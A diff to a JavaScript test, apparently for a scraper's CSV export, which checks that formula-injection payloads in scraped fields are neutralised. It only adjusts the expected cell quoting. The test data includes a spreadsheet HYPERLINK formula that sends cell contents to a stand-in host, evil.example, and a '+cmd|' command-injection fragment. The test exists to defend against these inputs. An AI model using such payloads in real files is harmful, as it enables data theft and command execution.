@@ -262,9 +262,9 @@ test("a hostile scraped page: scraped-posts.csv neutralises its formulas and dro
     const csv = await downloadText(download);
     const [, line] = csv.split("\r\n");
     const title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
-    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",hostile-article,'+cmd|`)).toBe(true);
-    expect(line).toContain(",'@Jordan Ellis,");
-    expect(line).toContain(",'-Boating,");
+    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",hostile-article,"'+cmd|`)).toBe(true);
+    expect(line).toContain(`,"'@Jordan Ellis",`);
+    expect(line).toContain(`,"'-Boating",`);
     // eslint-disable-next-line no-control-regex -- the test looks for control characters
     expect(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(csv)).toBe(false);
 
